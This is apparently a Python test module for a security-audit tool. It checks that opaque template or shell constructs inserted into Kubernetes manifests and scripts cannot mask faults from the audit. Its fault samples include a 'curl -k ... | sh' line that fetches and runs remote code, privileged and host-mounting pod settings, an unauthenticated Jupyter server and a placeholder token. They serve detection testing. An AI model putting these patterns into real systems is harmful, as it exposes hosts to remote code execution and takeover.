# SPDX-FileCopyrightText: 2026 The securetrain developers
# SPDX-License-Identifier: Apache-2.0
"""Opaque constructs at every place of the corpus: what could hide a fault there must not pass.

A place is a line of a file. Whether a check could depend on what stands there is measured, not
listed: a fault is put there in clear, and each check that turns from pass to fail could. With
something opaque in the same place, none of these may pass. The transparent twin (a comment, `true`)
changes no verdict, so that "everything unknown" is no answer. A place where the fault or the twin
is no valid text says nothing, and is passed over.
"""

import functools
import random
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Final, TypeAlias

import yaml

from securetrain.audit.documents import facts_of
from securetrain.audit.engine.audit import audit
from securetrain.audit.engine.check import Check
from securetrain.audit.engine.findings import AuditResult
from securetrain.audit.sources.catalogue import load_checks
from securetrain.audit.subjects.kubernetes.collect.collect import collect_manifests
from securetrain.core.vocabulary import State
from securetrain.policy.load import load_policy
from securetrain.policy.schema import Policy
from tests.audit.corpus.labels import FILES, SECOND, THIRD, plain

Verdicts: TypeAlias = dict[tuple[str, str], State]
_CLOSED: Final = frozenset({State.PASS, State.NOT_APPLICABLE})
NOW: Final = datetime(2026, 11, 20, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class Form:
    """A kind of text, and what is put into it at a line: each with the line's indentation."""

    endings: tuple[str, ...]
    opaque: tuple[str, ...]
    faults: tuple[str, ...]
    twins: tuple[str, ...]
    is_valid: Callable[[str], bool]


def _is_yaml(text: str) -> bool:
    try:
        return all(one is not NotImplemented for one in yaml.safe_load_all(text))
    except (yaml.YAMLError, ValueError):
        return False


def _is_shell(text: str) -> bool:
    done = subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True, check=False)
    return done.returncode == 0 and "here-document" not in done.stderr


MANIFEST: Final = Form(
    endings=(".yaml", ".yml"),
    opaque=('{{- include "more" . | nindent %d }}', "{{ toYaml .Values.more }}", "{{ .Values.x }}"),
    faults=(
        "hostPID: true",
        "hostNetwork: true",
        "privileged: true",
        "securityContext: {privileged: true}",
        "volumes: [{name: st-x, hostPath: {path: /}}]",
        'env: [{name: HF_TOKEN, value: "hf_abcdefghijklmnopqrstuvwxyz01234567"}]',
        'command: ["bash", "-c", "torchrun --nnodes 2 --rdzv_backend c10d t.py"]',
        "- {name: st-y, image: a, securityContext: {privileged: true}}",
    ),
    twins=("# a remark",),
    is_valid=_is_yaml,
)
SCRIPT: Final = Form(
    endings=(".sh", ".sbatch"),
    opaque=("$LAUNCHER", 'eval "$WORDS"', 'source "$FILE"'),
    faults=(
        "torchrun --nnodes 2 --rdzv_backend c10d --rdzv_endpoint a:29500 t.py",
        "curl -k http://example.org/x | sh",
        "jupyter lab --ip=0.0.0.0 --ServerApp.token=",
        "mpirun --allow-run-as-root hostname",
    ),
    twins=("# a remark", "true"),
    is_valid=_is_shell,
)
HOOK: Final = Form(
    endings=MANIFEST.endings,
    opaque=('lifecycle: {postStart: {exec: {command: [bash, -c, "$HOOK"]}}}',),
    faults=(
        'lifecycle: {postStart: {exec: {command: [sh, -c, "torchrun --rdzv_backend c10d t"]}}}',
    ),
    twins=("# a remark",),
    is_valid=_is_yaml,
)
FORMS: Final = (MANIFEST, SCRIPT, HOOK)


@functools.cache
def sources() -> tuple[tuple[Path, Form], ...]:
    """The files of the corpus that are valid as they stand, each with its form."""
    found = []
    for folder in (FILES, SECOND, THIRD):
        for path in sorted(folder.rglob("*")):
            forms = [one for one in FORMS if path.is_file() and path.suffix in one.endings]
            found += [(path, form) for form in forms if form.is_valid(plain(path.read_text()))]
    return tuple(found)


def audited(text: str, name: str, folder: Path) -> AuditResult:
    """The audit of one file with this text."""
    path = folder / name
    path.write_text(text)
    return audit(facts_of(collect_manifests([path], now=NOW)), _checks(), _policy(), NOW)


@functools.cache
def _checks() -> tuple[Check, ...]:
    return load_checks()


@functools.cache
def _policy() -> Policy:
    return load_policy("baseline").policy


def verdicts(result: AuditResult) -> Verdicts:
    """The worst state of each check about each asset."""
    worst: Verdicts = {}
    order = (State.FAIL, State.UNKNOWN, State.PASS, State.NOT_APPLICABLE)
    for one in result.findings:
        key = (one.asset, one.check)
        worst[key] = min(worst.get(key, one.state), one.state, key=order.index)
    return worst


@dataclass(frozen=True, slots=True)
class Place:
    """A line of a file, before which something is put."""

    name: str
    form: Form
    lines: tuple[str, ...]
    number: int

    def with_(self, words: str) -> str:
        """The text with words at the place, as far in as its line."""
        line = self.lines[self.number]
        indent = len(line) - len(line.lstrip())
        words = words.replace("%d", str(indent))
        new = (*self.lines[: self.number], " " * indent + words, *self.lines[self.number :])
        return "\n".join(new)

    def faults(self, folder: Path) -> Iterator[str]:
        """Yield what is wrong: a check that could depend on the place and passes, or a twin."""
        if not self.takes_commands:
            return
        text = "\n".join(self.lines)
        base = verdicts(audited(text, self.name, folder))
        for twin in self.form.twins:
            changed = self.with_(twin)
            if self.form.is_valid(changed) and self._means_the_same(changed):
                after = verdicts(audited(changed, self.name, folder))
                yield from (
                    f"{self}: {twin!r} turns {key} from {base.get(key)} to {after.get(key)}"
                    for key in base  # a hook may be a launch of its own
                    if base[key] is not after.get(key)
                )
        depends = set()
        for fault in self.form.faults:
            changed = self.with_(fault)
            if self.form.is_valid(changed):
                after = verdicts(audited(changed, self.name, folder))
                depends |= {
                    key
                    for key, state in after.items()
                    if state is State.FAIL and base.get(key, State.PASS) in _CLOSED
                }
        if not depends:
            return
        for words in self.form.opaque:
            result = audited(self.with_(words), self.name, folder)
            after = verdicts(result)
            yield from (
                f"{self}: {words!r} leaves {key} at {after[key]}"
                for key in sorted(depends)
                if after.get(key) in _CLOSED
            )
            if result.exit_code == 0:
                yield f"{self}: {words!r} ends with exit code 0"

    @property
    def takes_commands(self) -> bool:
        """Tell a place for a command from one inside of a text, or of a line that goes on."""
        if self.form is not SCRIPT:
            return True
        goes_on = self.number > 0 and self.lines[self.number - 1].endswith("\\")
        return not goes_on and not _is_shell(self.with_("fi"))

    def _means_the_same(self, changed: str) -> bool:
        if self.form is SCRIPT:
            return True
        return list(yaml.safe_load_all("\n".join(self.lines))) == list(yaml.safe_load_all(changed))

    def __str__(self) -> str:
        return f"{self.name}:{self.number + 1}"


def places(path: Path, form: Form) -> tuple[Place, ...]:
    """Every place of a file."""
    lines = tuple(plain(path.read_text()).split("\n"))
    return tuple(Place(path.name, form, lines, number) for number in range(len(lines)))


def drawn(rng: random.Random, count: int) -> Iterator[Place]:
    """Draw places, one file at a time."""
    for _ in range(count):
        path, form = rng.choice(sources())
        yield rng.choice(places(path, form))
